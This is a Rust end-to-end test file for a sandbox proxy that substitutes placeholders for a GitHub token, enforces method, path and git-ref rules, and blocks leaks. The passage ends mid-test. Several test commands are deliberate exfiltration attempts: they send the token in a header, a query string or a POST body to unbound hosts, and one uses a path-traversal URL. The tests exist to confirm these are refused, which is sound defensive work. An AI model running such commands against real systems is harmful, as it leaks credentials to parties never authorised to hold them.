//! Credentials the sandbox never holds, and HTTPS rules by method, path and git ref (issue
//! 20), end to end through `cordon serve`, loopback only.
//!
//! Loopback HTTPS servers with a test CA given as `[network].extra_roots`: an API host bound
//! to a credential and restricted by `[[network.rules]]`, a git host (a real `git
//! http-backend` behind a small HTTPS-to-CGI shim) under `[network.git]`, an intercepted host
//! the credential is not bound to, a host nobody names (an opaque tunnel), and a host whose
//! certificate no trusted root signed. curl, git, Python's urllib, Node's https and Node 22's fetch go through the
//! interception and see a valid certificate; the servers get the real token while the
//! sandbox only ever sees its placeholder; every refusal is attempted for real and must show
//! in the call's result and the audit log in the proxy's words; and at the end the real token
//! is searched for in every file under the workspace (the spill area is in it), the audit
//! log, the server's log and every result.

use crate::common::{Need, Sandbox, skip};
use crate::stdio_server::{StdioServer, structured};
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

// ---------------------------------------------------------------------------------------
// Certificates and loopback HTTPS servers
// ---------------------------------------------------------------------------------------

struct TestCa {
    issuer: Issuer<'static, KeyPair>,
    pem: String,
}

impl TestCa {
    fn new(name: &str) -> Self {
        let key = KeyPair::generate().unwrap();
        let mut params = CertificateParams::new(Vec::<String>::new()).unwrap();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, name);
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let cert = params.self_signed(&key).unwrap();
        Self {
            issuer: Issuer::new(params, key),
            pem: cert.pem(),
        }
    }

    fn leaf(&self) -> (CertificateDer<'static>, PrivateKeyDer<'static>) {
        let key = KeyPair::generate().unwrap();
        let params =
            CertificateParams::new(vec!["localhost".to_owned(), "127.0.0.1".to_owned()]).unwrap();
        let cert = params.signed_by(&key, &self.issuer).unwrap();
        (
            cert.der().clone(),
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
    }
}

/// One request a test server received.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A loopback HTTPS/1.1 server: `/echo` answers with the request's header fields, paths below
/// `/reflect/` reflect its `Authorization` value in other shapes (see [`reflect`]), paths below
/// `/repo.git` go to `git http-backend` (with `git_root`), anything else `ok METHOD PATH`.
struct Https {
    port: u16,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Https {
    fn start(ca: &TestCa, git_root: Option<PathBuf>) -> Self {
        let (cert, key) = ca.leaf();
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let mut config = rustls::ServerConfig::builder_with_provider(provider)
            .with_protocol_versions(rustls::ALL_VERSIONS)
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![cert], key)
            .unwrap();
        config.alpn_protocols = vec![b"http/1.1".to_vec()];
        let config = Arc::new(config);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let config = Arc::clone(&config);
                let log = Arc::clone(&log);
                let git_root = git_root.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
                    let Ok(conn) = rustls::ServerConnection::new(config) else {
                        return;
                    };
                    let mut tls = rustls::StreamOwned::new(conn, stream);
                    serve_one(&mut tls, &log, git_root.as_deref());
                    tls.conn.send_close_notify();
                    let _ = tls.flush();
                });
            }
        });
        Self { port, seen }
    }

    fn requests(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

fn serve_one<S: Read + Write>(stream: &mut S, log: &Mutex<Vec<Seen>>, git_root: Option<&Path>) {
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    if reader.read_line(&mut line).unwrap_or(0) == 0 {
        return;
    }
    let mut parts = line.trim_end().split(' ');
    let method = parts.next().unwrap_or_default().to_owned();
    let target = parts.next().unwrap_or_default().to_owned();
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        if reader.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
            break;
        }
        if let Some((n, v)) = h.trim_end().split_once(':') {
            headers.push((n.trim().to_owned(), v.trim().to_owned()));
        }
    }
    let seen = Seen {
        method: method.clone(),
        path: target.clone(),
        headers: headers.clone(),
    };
    let mut body = Vec::new();
    if let Some(n) = seen
        .header("content-length")
        .and_then(|n| n.parse::<usize>().ok())
    {
        body.resize(n, 0);
        let _ = reader.read_exact(&mut body);
    } else if seen
        .header("transfer-encoding")
        .is_some_and(|t| t.eq_ignore_ascii_case("chunked"))
    {
        loop {
            let mut size = String::new();
            let _ = reader.read_line(&mut size);
            let n = usize::from_str_radix(size.trim().split(';').next().unwrap_or("0"), 16)
                .unwrap_or(0);
            let mut chunk = vec![0u8; n + 2];
            if reader.read_exact(&mut chunk).is_err() {
                break;
            }
            if n == 0 {
                break;
            }
            body.extend_from_slice(&chunk[..n]);
        }
    }
    log.lock().unwrap().push(seen.clone());
    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
    let response = match (path, git_root) {
        ("/echo", _) => {
            let text: String = headers.iter().map(|(n, v)| format!("{n}: {v}\n")).collect();
            plain_response(200, &text)
        }
        (p, _) if p.starts_with("/reflect/") => reflect(&p["/reflect/".len()..], &seen),
        (p, Some(root)) if p.starts_with("/repo.git") => {
            cgi(&method, p, query, &headers, &body, root)
        }
        _ => plain_response(200, &format!("ok {method} {path}\n")),
    };
    let stream = reader.into_inner();
    let _ = stream.write_all(&response);
    let _ = stream.flush();
}

/// A reflecting endpoint of a bound host, as a hostile or careless API may have: the
/// `Authorization` value it received comes back base64-encoded (`base64`), gzip-compressed
/// whatever `Accept-Encoding` said (`gzip`), one byte per chunk (`chunks`), honouring `Range`
/// (`range`), or as a header *name* in a malformed head (`bad-head`, the token without its
/// scheme).
fn reflect(how: &str, seen: &Seen) -> Vec<u8> {
    let auth = seen.header("authorization").unwrap_or_default().to_owned();
    let head = |status: &str, fields: &str, len: usize| {
        format!("HTTP/1.1 {status}\r\n{fields}Content-Length: {len}\r\nConnection: close\r\n\r\n")
    };
    match how {
        "base64" => {
            let out = std::process::Command::new("base64")
                .arg("-w0")
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .and_then(|mut c| {
                    c.stdin.take().unwrap().write_all(auth.as_bytes())?;
                    c.wait_with_output()
                })
                .unwrap()
                .stdout;
            plain_response(200, &String::from_utf8(out).unwrap())
        }
        "gzip" => {
            let out = std::process::Command::new("gzip")
                .arg("-c")
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .spawn()
                .and_then(|mut c| {
                    c.stdin.take().unwrap().write_all(auth.as_bytes())?;
                    c.wait_with_output()
                })
                .unwrap()
                .stdout;
            let mut r = head("200 OK", "Content-Encoding: gzip\r\n", out.len()).into_bytes();
            r.extend(out);
            r
        }
        "chunks" => {
            let mut r =
                b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
                    .to_vec();
            for b in auth.bytes() {
                r.extend_from_slice(b"1\r\n");
                r.push(b);
                r.extend_from_slice(b"\r\n");
            }
            r.extend_from_slice(b"0\r\n\r\n");
            r
        }
        "range" => {
            let range = seen
                .header("range")
                .and_then(|r| r.strip_prefix("bytes="))
                .and_then(|r| r.split_once('-'))
                .map(|(a, b)| {
                    let a: usize = a.parse().unwrap_or(0).min(auth.len());
                    let b: usize = b
                        .parse()
                        .map_or(auth.len(), |b: usize| (b + 1).min(auth.len()));
                    (a, b.max(a))
                });
            match range {
                Some((a, b)) => {
                    let part = &auth[a..b];
                    let fields = format!(
                        "Content-Range: bytes {a}-{}/{}\r\n",
                        b.max(1) - 1,
                        auth.len()
                    );
                    let mut r = head("206 Partial Content", &fields, part.len()).into_bytes();
                    r.extend_from_slice(part.as_bytes());
                    r
                }
                None => plain_response(200, &auth),
            }
        }
        "bad-head" => {
            let token = auth.split_once(' ').map_or(auth.as_str(), |(_, t)| t);
            format!("HTTP/1.1 200 OK\r\nX-{token}@: 1\r\nContent-Length: 0\r\n\r\n").into_bytes()
        }
        _ => plain_response(404, "no such reflection\n"),
    }
}

/// `PATH_INFO` as CGI specifies it: the path percent-decoded (RFC 3875, 4.1.5), as a real
/// web server hands it to `git http-backend`.
fn path_info(path: &str) -> String {
    let b = path.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        match (
            b[i],
            b.get(i + 1).and_then(|&c| hex(c)),
            b.get(i + 2).and_then(|&c| hex(c)),
        ) {
            (b'%', Some(hi), Some(lo)) => {
                out.push((hi * 16 + lo) as u8);
                i += 3;
            }
            (c, ..) => {
                out.push(c);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A plain-HTTP origin on 127.0.0.1 answering `ok` to anything (after reading the head).
fn plain_origin() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = stream.write_all(&plain_response(200, "ok\n"));
            });
        }
    });
    port
}

fn plain_response(status: u16, body: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 {status} X\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// `git http-backend` as a CGI program: the real smart-HTTP server of a push.
fn cgi(
    method: &str,
    path: &str,
    query: &str,
    headers: &[(String, String)],
    body: &[u8],
    root: &Path,
) -> Vec<u8> {
    let content_type = headers
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case("content-type"))
        .map(|(_, v)| v.clone())
        .unwrap_or_default();
    let mut child = std::process::Command::new("git")
        .arg("http-backend")
        .env("GIT_PROJECT_ROOT", root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", root)
        .env("REQUEST_METHOD", method)
        .env("PATH_INFO", path_info(path))
        .env("QUERY_STRING", query)
        .env("CONTENT_TYPE", content_type)
        .env("CONTENT_LENGTH", body.len().to_string())
        .env("REMOTE_USER", "agent")
        .env("REMOTE_ADDR", "127.0.0.1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("git http-backend");
    child.stdin.take().unwrap().write_all(body).unwrap();
    let out = child.wait_with_output().unwrap().stdout;
    let split = out
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .map(|i| (i, 4))
        .or_else(|| out.windows(2).position(|w| w == b"\n\n").map(|i| (i, 2)));
    let Some((at, sep)) = split else {
        return plain_response(500, "bad cgi output");
    };
    let head = String::from_utf8_lossy(&out[..at]).into_owned();
    let mut status = "200 OK".to_owned();
    let mut fields = String::new();
    for l in head.lines() {
        match l.split_once(':') {
            Some((n, v)) if n.eq_ignore_ascii_case("status") => status = v.trim().to_owned(),
            Some(_) => fields.push_str(&format!("{}\r\n", l.trim_end())),
            None => {}
        }
    }
    let mut response =
        format!("HTTP/1.1 {status}\r\n{fields}Connection: close\r\n\r\n").into_bytes();
    response.extend_from_slice(&out[at + sep..]);
    response
}

// ---------------------------------------------------------------------------------------
// The policy and the server
// ---------------------------------------------------------------------------------------

/// Everything one test runs against.
struct Fixture {
    sb: Sandbox,
    policy: String,
    server: StdioServer,
    real: String,
    audit: PathBuf,
    server_log: PathBuf,
    api: Https,
    git: Https,
    unbound: Https,
    opaque: Https,
    untrusted: Https,
    results: Vec<Value>,
}

impl Fixture {
    fn new() -> Self {
        let sb = Sandbox::new();
        let ca = TestCa::new("cordon test CA");
        let other = TestCa::new("a CA nobody trusts");
        let roots = sb.outside().join("test-ca.pem");
        std::fs::write(&roots, &ca.pem).unwrap();
        // The sandbox may read the test CA too (a client that pins it).
        std::fs::write(sb.ws().join("test-ca.pem"), &ca.pem).unwrap();
        let git_root = sb.outside().join("git");
        std::fs::create_dir_all(&git_root).unwrap();
        let run = |args: &[&str], dir: &Path| {
            let out = std::process::Command::new("git")
                .args(args)
                .current_dir(dir)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", sb.outside())
                .output()
                .unwrap();
            assert!(out.status.success(), "git {args:?}: {out:?}");
        };
        run(&["init", "-q", "--bare", "repo.git"], &git_root);
        let api = Https::start(&ca, None);
        let git = Https::start(&ca, Some(git_root.clone()));
        let unbound = Https::start(&ca, None);
        let opaque = Https::start(&ca, None);
        let untrusted = Https::start(&other, None);
        // As long as a real GitHub token (40 characters), so an echo is scrubbed to the whole
        // placeholder.
        let unique: String = crate::common::unique_token()
            .chars()
            .filter(|c| c.is_ascii_alphanumeric())
            .collect();
        let real: String = format!("ghp_{unique}{}", "Q".repeat(36))
            .chars()
            .take(40)
            .collect();
        let network = format!(
            r#"extends = "dev"

[network]
proxy = true
allow_hosts = ["localhost:*", "127.0.0.1:*"]
allow_private = ["127.0.0.0/8"]
extra_roots = ["{roots}"]

[[network.credentials]]
name = "github"
hosts = ["localhost:{api}", "localhost:{git}"]
env = "GITHUB_TOKEN"
from_env = "CORDON_TEST_GH_TOKEN"
inject = "basic:x-access-token"

[[network.rules]]
host = "localhost:{api}"
methods = ["GET", "HEAD"]
paths = ["/repos/acme/*", "/user", "/echo", "/reflect/*", "/public/*"]

[[network.rules]]
host = "127.0.0.1:{unbound}"

[[network.rules]]
host = "localhost:{untrusted}"

[network.git]
push_refs = ["refs/heads/agent/*"]
allow_delete = false
"#,
            roots = roots.display(),
            api = api.port,
            git = git.port,
            unbound = unbound.port,
            untrusted = untrusted.port,
        );
        let policy = sb.policy("credentials.toml", &network);
        let audit = sb.outside().join("audit.jsonl");
        let server_log = sb.outside().join("server.log");
        let prefix = format!("exec 2>>'{}';", server_log.display());
        let server = StdioServer::start(
            sb.ws(),
            &["--policy", &policy, "--audit-log", audit.to_str().unwrap()],
            &prefix,
            &[("CORDON_TEST_GH_TOKEN", &real), ("RUST_LOG", "debug")],
        );
        Self {
            sb,
            policy,
            server,
            real,
            audit,
            server_log,
            api,
            git,
            unbound,
            opaque,
            untrusted,
            results: Vec::new(),
        }
    }

    /// Runs `command` in a call (loopback through the proxy, as in `egress`).
    fn shell(&mut self, command: &str) -> Value {
        let r = self.server.call(
            "shell_exec",
            json!({ "command": format!("unset NO_PROXY no_proxy; {command}"), "timeout_secs": 90 }),
        );
        self.results.push(r.clone());
        r
    }

    fn line_of(&self, needle: &str) -> usize {
        std::fs::read_to_string(&self.policy)
            .unwrap()
            .lines()
            .position(|l| l.contains(needle))
            .expect("needle in policy")
            + 1
    }

    fn placeholder_prefix(&self) -> &'static str {
        "cordon-cred-github-"
    }

    /// The real token appears nowhere the sandbox, the results or the logs reach.
    fn assert_token_nowhere(&self) {
        let mut files = Vec::new();
        collect(self.sb.ws(), &mut files);
        files.push(self.audit.clone());
        files.push(self.server_log.clone());
        let mut searched = 0;
        for f in &files {
            if let Ok(bytes) = std::fs::read(f) {
                searched += 1;
                assert!(
                    !contains(&bytes, self.real.as_bytes()),
                    "the real token is in {}",
                    f.display()
                );
            }
        }
        assert!(searched >= 2, "the audit log and the server log were read");
        assert!(
            std::fs::read_to_string(&self.audit)
                .unwrap()
                .contains("\"egress\""),
            "the audit log has egress records"
        );
        for r in &self.results {
            assert!(
                !r.to_string().contains(&self.real),
                "a result holds the token: {r}"
            );
        }
    }
}

fn collect(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let Ok(t) = e.file_type() else { continue };
        if t.is_dir() {
            collect(&e.path(), out);
        } else if t.is_file() {
            out.push(e.path());
        }
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn stdout(r: &Value) -> &str {
    structured(r)["stdout"].as_str().unwrap_or_default()
}

fn stderr(r: &Value) -> &str {
    structured(r)["stderr"].as_str().unwrap_or_default()
}

fn network(r: &Value) -> &Value {
    let n = &structured(r)["network"];
    assert!(n.is_object(), "no network report: {r}");
    n
}

fn connections(r: &Value) -> Vec<Value> {
    network(r)["connections"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn refused(r: &Value) -> Vec<String> {
    network(r)["refused"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|v| v.as_str().unwrap_or_default().to_owned())
        .collect()
}

fn skipped(test: &str) -> bool {
    skip(test, Need::Namespaces)
}

// ---------------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------------

#[cordon_test::test]
fn intercepted_clients_trust_the_certificate_and_only_the_server_sees_the_real_token() {
    if skipped("credentials_clients") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);

    // The sandbox sees the placeholder, in its environment and in /proc/self/environ.
    let r = f.shell("printf '%s\\n' \"$GITHUB_TOKEN\"; cat /proc/self/environ | tr '\\0' '\\n' | grep '^GITHUB_TOKEN='");
    let out = stdout(&r).to_owned();
    let placeholder = out.lines().next().unwrap_or_default().to_owned();
    assert!(placeholder.starts_with(f.placeholder_prefix()), "{r}");
    assert_eq!(
        out.lines().nth(1),
        Some(format!("GITHUB_TOKEN={placeholder}").as_str()),
        "{r}"
    );
    assert!(!out.contains(&f.real), "{r}");

    // The CA variables name the distribution's bundle, which the view replaced with the
    // system bundle plus cordon's CA certificate (its key is nowhere in it).
    let r = f.shell(
        "for v in SSL_CERT_FILE REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS \
         GIT_SSL_CAINFO PIP_CERT; do printenv $v; done | sort -u; \
         grep -c 'cordon egress interception CA' \"$SSL_CERT_FILE\"; \
         grep -c 'PRIVATE KEY' \"$SSL_CERT_FILE\"; echo done",
    );
    let lines: Vec<&str> = stdout(&r).lines().collect();
    assert_eq!(lines.len(), 4, "one bundle path for all six variables: {r}");
    assert!(lines[0].starts_with("/etc/"), "{r}");
    assert_eq!(&lines[1..], ["1", "0", "done"], "{r}");

    // curl, with the placeholder as its bearer token: the server gets the real one.
    let r = f.shell(&format!(
        "curl -sS -m 30 -H \"Authorization: Bearer $GITHUB_TOKEN\" {api}/user"
    ));
    assert_eq!(stdout(&r), "ok GET /user\n", "curl: {r}");
    let c = &connections(&r)[0];
    assert_eq!(c["intercepted"], true, "{c}");
    assert_eq!(
        (c["method"].as_str(), c["path"].as_str()),
        (Some("GET"), Some("/user")),
        "{c}"
    );
    assert_eq!(c["status"], 200, "{c}");
    assert_eq!(c["credential"], "github", "{c}");
    let rule_line = f.line_of("[[network.rules]]");
    assert!(
        c["rule"]
            .as_str()
            .unwrap_or_default()
            .contains(&format!("policy line {rule_line}")),
        "{c}"
    );
    let seen = f.api.requests();
    assert_eq!(
        seen.last().unwrap().header("authorization"),
        Some(format!("Bearer {}", f.real).as_str())
    );

    // An echo of the real value comes back as the placeholder (cut to its length).
    let r = f.shell(&format!(
        "curl -sS -m 30 -H \"Authorization: Bearer $GITHUB_TOKEN\" {api}/echo"
    ));
    assert!(
        stdout(&r).contains("Authorization: Bearer cordon-cred-github-"),
        "{r}"
    );
    assert!(!stdout(&r).contains(&f.real), "{r}");

    // Python's urllib, with nothing of its own: the credential is added (basic form), the query
    // is dropped from the record.
    let r = f.shell(&format!(
        "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"{api}/repos/acme/x?page=2\", timeout=30).read().decode(), end=\"\")'"
    ));
    assert_eq!(stdout(&r), "ok GET /repos/acme/x\n", "urllib: {r}");
    assert_eq!(connections(&r)[0]["path"], "/repos/acme/x", "{r}");
    let auth = f
        .api
        .requests()
        .last()
        .unwrap()
        .header("authorization")
        .unwrap_or_default()
        .to_owned();
    assert!(auth.starts_with("Basic "), "{auth}");

    // Python's requests (REQUESTS_CA_BUNDLE), where the sandbox's Python has it.
    let r = f.shell(&format!(
        "if python3 -c 'import requests' 2>/dev/null; then python3 -c 'import requests; print(requests.get(\"{api}/user\", timeout=30).text, end=\"\")'; else echo no-requests; fi"
    ));
    if stdout(&r) != "no-requests\n" {
        assert_eq!(stdout(&r), "ok GET /user\n", "requests: {r}");
    }

    // Node, over the proxy's tunnel (Node 20's fetch does not use proxies; its https does
    // with a CONNECT socket), trusting cordon's CA through NODE_EXTRA_CA_CERTS.
    std::fs::write(
        f.sb.ws().join("node-get.js"),
        format!(
            r#"const http = require('http'), https = require('https'), tls = require('tls');
const p = new URL(process.env.HTTPS_PROXY);
const auth = 'Basic ' + Buffer.from(decodeURIComponent(p.username) + ':' + decodeURIComponent(p.password)).toString('base64');
http.request({{ host: p.hostname, port: p.port, method: 'CONNECT', path: 'localhost:{port}', headers: {{ 'Proxy-Authorization': auth }} }})
  .on('connect', (res, socket) => {{
    const req = https.request({{ host: 'localhost', port: {port}, path: '/user', createConnection: () => tls.connect({{ socket, servername: 'localhost' }}) }}, r => {{
      let body = ''; r.on('data', d => body += d); r.on('end', () => process.stdout.write(body));
    }});
    req.on('error', e => {{ console.error('node: ' + e.message); process.exit(1); }});
    req.end();
  }}).on('error', e => {{ console.error(e.message); process.exit(1); }}).end();
"#,
            port = f.api.port
        ),
    )
    .unwrap();
    let r = f.shell("node node-get.js");
    assert_eq!(stdout(&r), "ok GET /user\n", "node: {r}");

    // Node's `fetch`, which uses a proxy from the environment from Node 22.21 on with
    // NODE_USE_ENV_PROXY (cordon sets it): the Node 22 the conformance suite installs, copied
    // into the workspace (the sandbox cannot read the checkout).
    let node22 = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/e2e/conformance/node_modules/node/bin/node");
    let fetched = if node22.exists() {
        std::fs::copy(&node22, f.sb.ws().join("node22")).unwrap();
        let r = f.shell(&format!(
            "./node22 -e \"fetch('{api}/user').then(r => r.text()).then(t => process.stdout.write(t), e => {{ console.error(e.cause || e); process.exit(1); }})\""
        ));
        assert_eq!(stdout(&r), "ok GET /user\n", "node fetch: {r}");
        1
    } else if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("Node 22 for the fetch check is missing: npm ci --prefix tests/e2e/conformance");
    } else {
        crate::common::skip_msg(
            "the Node fetch check",
            &format!(
                "{} is missing; to run it: npm ci --prefix tests/e2e/conformance",
                node22.display()
            ),
        );
        0
    };

    // The audit log has one egress record per intercepted request, with its fields.
    let text = std::fs::read_to_string(&f.audit).unwrap();
    let records: Vec<Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let intercepted: Vec<&Value> = records
        .iter()
        .filter(|v| v["tool"] == "egress" && v["outcome"]["intercepted"] == true)
        .collect();
    let with_requests = usize::from(f.api.requests().len() == 5 + fetched);
    assert_eq!(
        intercepted.len(),
        4 + with_requests + fetched,
        "{intercepted:?}"
    );
    let urllib = intercepted
        .iter()
        .find(|v| v["outcome"]["path"] == "/repos/acme/x")
        .expect("the urllib request's record");
    assert_eq!(urllib["outcome"]["method"], "GET");
    assert_eq!(urllib["outcome"]["host"], "localhost");
    assert_eq!(urllib["outcome"]["status"], 200);
    assert_eq!(urllib["outcome"]["credential"], "github");
    assert!(urllib["outcome"]["bytes_received"].as_u64().unwrap() > 0);
    assert!(
        urllib["outcome"]["rule"]
            .as_str()
            .unwrap()
            .starts_with("network.rules[0]")
    );
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn a_placeholder_sent_where_it_is_not_bound_is_refused_and_reported() {
    if skipped("credentials_exfiltration") {
        return;
    }
    let mut f = Fixture::new();
    let origin = plain_origin();
    let cred_line = f.line_of("[[network.credentials]]");
    // An intercepted host the credential is not bound to: in a header, and in the URL.
    for (what, command) in [
        (
            "the `X-Leak` header",
            format!(
                "curl -sS -m 30 -H \"X-Leak: $GITHUB_TOKEN\" https://127.0.0.1:{}/",
                f.unbound.port
            ),
        ),
        (
            "the request target",
            format!(
                "curl -sS -m 30 \"https://127.0.0.1:{}/?t=$GITHUB_TOKEN\"",
                f.unbound.port
            ),
        ),
    ] {
        let r = f.shell(&command);
        assert!(stdout(&r).contains("exfiltration attempt"), "{what}: {r}");
        let c = &connections(&r)[0];
        assert_eq!(c["exfiltration"], "github", "{c}");
        assert_eq!(c["allowed"], false, "{c}");
        assert_eq!(c["status"], 403, "{c}");
        let lines = network(&r)["exfiltration"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert_eq!(lines.len(), 1, "{r}");
        let line = lines[0].as_str().unwrap();
        assert!(line.contains(what), "{line}");
        assert!(line.contains(&format!("policy line {cred_line}")), "{line}");
        assert!(
            refused(&r)
                .iter()
                .any(|l| l.contains("exfiltration attempt")),
            "{r}"
        );
    }
    assert!(
        f.unbound.requests().is_empty(),
        "nothing reached the unbound host"
    );
    let audited = std::fs::read_to_string(&f.audit).unwrap();
    assert_eq!(
        audited.matches("\"deny:egress-exfiltration\"").count(),
        2,
        "each attempt has its audit record: {audited}"
    );
    // Plain HTTP to a host nobody names: the head and the body are read for it too.
    let r = f.shell(&format!(
        "curl -sS -m 30 -H \"X-Leak: $GITHUB_TOKEN\" http://localhost:{origin}/"
    ));
    assert!(
        network(&r)["exfiltration"]
            .as_array()
            .is_some_and(|l| l.len() == 1),
        "{r}"
    );
    let r = f.shell(&format!(
        "curl -sS -m 30 --data \"token=$GITHUB_TOKEN\" http://localhost:{origin}/"
    ));
    let c = &connections(&r)[0];
    assert_eq!(c["exfiltration"], "github", "body: {r}");
    assert!(
        c["note"]
            .as_str()
            .unwrap_or_default()
            .contains("the request body"),
        "{c}"
    );
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn a_rule_refuses_a_method_and_a_path_it_does_not_list() {
    if skipped("credentials_rules") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);
    let line = f.line_of("[[network.rules]]");
    for (command, wanted) in [
        (
            format!("curl -sS -m 30 -X POST {api}/user"),
            "POST /user is not allowed",
        ),
        (
            format!("curl -sS -m 30 {api}/orgs/evil"),
            "GET /orgs/evil is not allowed",
        ),
        (
            format!("curl -sS -m 30 --path-as-is {api}/repos/acme/../../orgs/evil"),
            "dot segment",
        ),
    ] {
        let r = f.shell(&command);
        let body = stdout(&r);
        assert!(body.contains(wanted), "{command}: {r}");
        assert!(
            body.contains(&format!("policy line {line}")),
            "{command}: {r}"
        );
        let c = &connections(&r)[0];
        assert_eq!(
            (c["status"].as_u64(), c["allowed"].as_bool()),
            (Some(403), Some(false)),
            "{c}"
        );
        assert!(refused(&r)[0].contains(wanted), "{r}");
        assert!(
            c.get("credential").is_none(),
            "nothing was sent, so nothing injected: {c}"
        );
        assert!(
            c["rule"]
                .as_str()
                .unwrap_or_default()
                .starts_with("network.rules[0]"),
            "{c}"
        );
    }
    // Nothing refused reached the server.
    assert!(f.api.requests().is_empty(), "{:?}", f.api.requests());
    let r = f.shell(&format!("curl -sS -m 30 -I {api}/repos/acme/widgets"));
    assert!(
        stdout(&r).starts_with("HTTP/1.1 200"),
        "HEAD is listed: {r}"
    );
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn git_push_to_an_agent_ref_succeeds_and_to_main_or_a_deletion_is_refused_in_gits_words() {
    if skipped("credentials_git_push") {
        return;
    }
    let mut f = Fixture::new();
    let url = format!("https://localhost:{}/repo.git", f.git.port);
    let git_line = f.line_of("[network.git]");
    let r = f.shell(
        "set -e; git init -q repo; cd repo; echo one > a; git add a; \
         git -c user.name=agent -c user.email=a@example.org commit -qm one; echo committed",
    );
    assert_eq!(stdout(&r), "committed\n", "{r}");
    let r = f.shell(&format!(
        "cd repo && GIT_TERMINAL_PROMPT=0 git push {url} HEAD:refs/heads/agent/x 2>&1; echo rc=$?"
    ));
    assert!(stdout(&r).ends_with("rc=0\n"), "push to agent/x: {r}");
    let pushes: Vec<Seen> = f
        .git
        .requests()
        .into_iter()
        .filter(|s| s.method == "POST" && s.path.ends_with("git-receive-pack"))
        .collect();
    assert_eq!(pushes.len(), 1, "{pushes:?}");
    let basic = pushes[0]
        .header("authorization")
        .unwrap_or_default()
        .to_owned();
    assert!(
        basic.starts_with("Basic "),
        "the credential was added for git: {basic}"
    );
    let c = connections(&r)
        .into_iter()
        .find(|c| {
            c["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("git-receive-pack"))
        })
        .expect("the push's record");
    assert_eq!(c["credential"], "github", "{c}");
    assert!(
        c["rule"]
            .as_str()
            .unwrap_or_default()
            .starts_with("network.git.push_refs"),
        "{c}"
    );

    let r = f.shell(&format!(
        "cd repo && GIT_TERMINAL_PROMPT=0 git push {url} HEAD:refs/heads/main; echo rc=$?"
    ));
    let err = stderr(&r);
    assert!(err.contains("[remote rejected]"), "{r}");
    assert!(
        err.contains("refs/heads/main is not in [network.git] push_refs"),
        "{r}"
    );
    assert!(err.contains(&format!("policy line {git_line}")), "{r}");
    assert!(stdout(&r).ends_with("rc=1\n"), "{r}");
    assert!(
        refused(&r)
            .iter()
            .any(|l| l.contains("push to refs/heads/main refused")),
        "{r}"
    );

    let r = f.shell(&format!(
